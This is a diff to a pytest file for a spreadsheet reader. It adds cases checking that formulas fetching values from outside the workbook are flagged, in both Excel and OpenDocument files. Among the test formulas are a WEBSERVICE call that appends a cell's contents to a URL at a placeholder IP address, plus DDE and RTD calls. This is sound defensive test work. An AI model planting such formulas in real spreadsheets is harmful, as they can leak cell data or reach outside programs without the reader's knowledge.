@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from books_for_reading import MAIN, ods, plain_book, with_parts, with_rows
 from odd_parts import carrying_book, relations
@@ -65,15 +67,47 @@ def test_a_plain_book_carries_nothing(read):
         ("<f>SUM('[12]Mitt blad'!A1:A9)</f>", "B2"),
         ("<f>[1]!Namn</f>", "B2"),
         ('<f t="shared" si="0" ref="B2:B9">[1]Blad!A1</f>', "B2:B9"),
+        ('<f>_xlfn.WEBSERVICE("http://192.0.2.1/?"&amp;A1)</f>', "B2"),
+        ("<f>WEBSERVICE (A1)</f>", "B2"),
+        ('<f>_xlfn.FILTERXML(A1,"//a")</f>', "B2"),
+        ('<f>1+_xlfn._xlws.STOCKHISTORY("MSFT",A1)</f>', "B2"),
+        ('<f>RTD("prog.id",,"x")</f>', "B2"),
+        ('<f>rtd("prog.id",,"x")</f>', "B2"),
+        ('<f>CUBEVALUE("Modell",A1)</f>', "B2"),
+        ('<f>CUBERANKEDMEMBER("Modell",A1,1)</f>', "B2"),
+        ("<f>_xlfn._xlws.PY(0,1)</f>", "B2"),
+        ('<f>DDE("soffice";"fil";"A1")</f>', "B2"),
+        ('<f>IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""x"",""A1"")"),7)</f>', "B2"),
+        ('<f>IFERROR(__xludf.DUMMYFUNCTION("GOOGLEFINANCE(""x"")"),7)</f>', "B2"),
+        ('<f t="array" ref="B2:C4">_xlfn.WEBSERVICE(A1)</f>', "B2:C4"),
+        ("<f>MYRTD(A1)+COPY(A1)+SUM(RTDS)</f>", None),
+        ('<f>IF(A1="IMPORTERAT","x",CUBE)</f>', None),
         ("<f>A1+1</f>", None),
         ("<f>Tabell1[Svar]</f>", None),
         ('<f>SUM(Tabell1[1])&amp;"!"</f>', None),
     ],
 )
 def test_a_value_out_of_another_book_is_marked_as_such(read, formula, cell):
-    found = read(with_rows(f'<row r="2"><c r="B2">{formula}<v>7</v></c></row>'))
-    assert found.sheets[0].value(2, 2) == 7
-    assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ([cell] if cell else [])
+    rows = f'<row r="2"><c r="B2">{formula}<v>7</v></c></row>'
+    for found in (read(with_rows(rows)), read(with_rows(re.sub("<(/?)(?=[a-z])", r"<\1x:", rows), "x"))):
+        assert found.sheets[0].value(2, 2) == 7
+        assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ([cell] if cell else [])
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "of:=COM.MICROSOFT.WEBSERVICE([.A1])",
+        "of:=DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;)",
+        "of:=com.microsoft.filterxml([.A1])",
+    ],
+)
+def test_a_value_from_outside_is_marked_in_an_opendocument_book_too(read, formula):
+    cell = f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="7"/>'
+    found = read(
+        ods(f'<table:table table:name="Blad"><table:table-row>{cell}</table:table-row></table:table>'), "b.ods"
+    )
+    assert [one.cell for one in found.remarks if one.trait is Trait.EXTERNAL_VALUE] == ["A1"]
 
 
 @pytest.mark.parametrize(
